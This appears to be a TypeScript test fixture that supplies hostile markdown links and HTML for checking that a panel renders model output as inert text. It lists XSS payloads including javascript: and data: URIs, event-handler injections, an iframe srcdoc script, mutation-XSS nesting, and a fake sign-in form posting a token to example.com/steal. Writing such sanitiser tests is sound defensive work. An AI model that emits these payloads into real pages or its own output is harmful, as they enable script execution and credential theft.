/** What a model must never make happen in the panel: each of these has to end up as harmless text. */

export function hostileLinks(): string {
    return [
        "[run this](javascript:alert(document.domain))",
        "[a command](command:workbench.action.terminal.new)",
        "[encoded](&#106;avascript:alert(1))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[vscode](vscode://file/etc/passwd) [file](file:///etc/passwd) [script](vbscript:msgbox(1))",
        '[title](https://example.com "onmouseover=alert(1)")',
    ].join("\n\n");
}

export function hostileHtml(): string {
    return [
        "<script>window.pwned = true</script>",
        '<img src="x" onerror="window.pwned = true">',
        '<svg onload="window.pwned = true"><a href="javascript:window.pwned=true"><text y="20">click</text></a></svg>',
        '<iframe srcdoc="<script>parent.pwned = true</script>"></iframe>',
        '<form action="https://example.com/steal"><input name="token"><button>Sign in</button></form>',
        '<style>body { display: none }</style><link rel="stylesheet" href="https://example.com/x.css">',
        '<meta http-equiv="refresh" content="0; url=https://example.com">',
        '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = true"></style></mglyph></table></mtext></math>',
        '<div style="position:fixed;inset:0;background:red">An overlay</div>',
        "<details open ontoggle=alert(1)><summary>More</summary>inside</details>",
    ].join("\n\n");
}
